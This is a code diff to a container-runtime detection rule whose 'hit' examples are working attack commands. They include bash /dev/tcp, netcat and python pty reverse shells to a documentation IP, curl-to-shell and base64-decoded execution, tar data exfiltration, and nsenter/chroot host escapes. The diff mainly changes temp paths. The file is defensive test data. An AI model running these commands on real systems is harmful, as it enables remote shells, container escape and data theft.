@@ -37,15 +37,21 @@ export default defineDetection({
   examples: {
     hit: [
       [run('bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')],
-      [run('sh', '-c', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f')],
+      [
+        run(
+          'sh',
+          '-c',
+          'rm /var/tmp/f; mkfifo /var/tmp/f; cat /var/tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /var/tmp/f',
+        ),
+      ],
       [run('nc', '198.51.100.9', '4444', '-e', '/bin/sh')],
       [run('python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",1));pty.spawn("sh")')],
-      [run('curl', '-o', '/tmp/x', 'https://files.example.com/x')],
+      [run('curl', '-o', '/var/tmp/x', 'https://files.example.com/x')],
       [run('sh', '-c', 'c""url https://files.example.com/x | sh')],
       [run('bash', '-c', 'echo aWQ= | base64 -d | bash')],
       [run('tar', 'cf', '-', '/var/lib/data')],
       [run('sh', '-c', 'tar cf - /var/lib/data | tail -c+1')],
-      [run('tar', '--no-same-permissions', '--no-same-owner', '-xmf', '-', '-C', '/tmp')],
+      [run('tar', '--no-same-permissions', '--no-same-owner', '-xmf', '-', '-C', '/var/tmp')],
       [run('apt-get', 'install', '-y', 'nmap')],
       [run('nsenter', '-t', '1', '-m', '--', 'bash')],
       [run('chroot', '/host')],
@@ -72,7 +78,7 @@ export default defineDetection({
       [run('wget', '-qO-', 'http://cart.shop.svc.cluster.local/')],
       [run('nc', '-zv', 'db', '5432')],
       [run('tar', 'tf', '-')],
-      [run('tar', 'czf', '/tmp/dump.tgz', '/data')],
+      [run('tar', 'czf', '/var/tmp/dump.tgz', '/data')],
       [run('psql', '-c', 'select 1')],
       [example({ verb: 'get', ...pod, code: 101, requestURI: uri('chroot', '/host') })],
       [example({ verb: 'get', ...pod, subresource: 'attach', stage: 'ResponseStarted', code: 101 })],
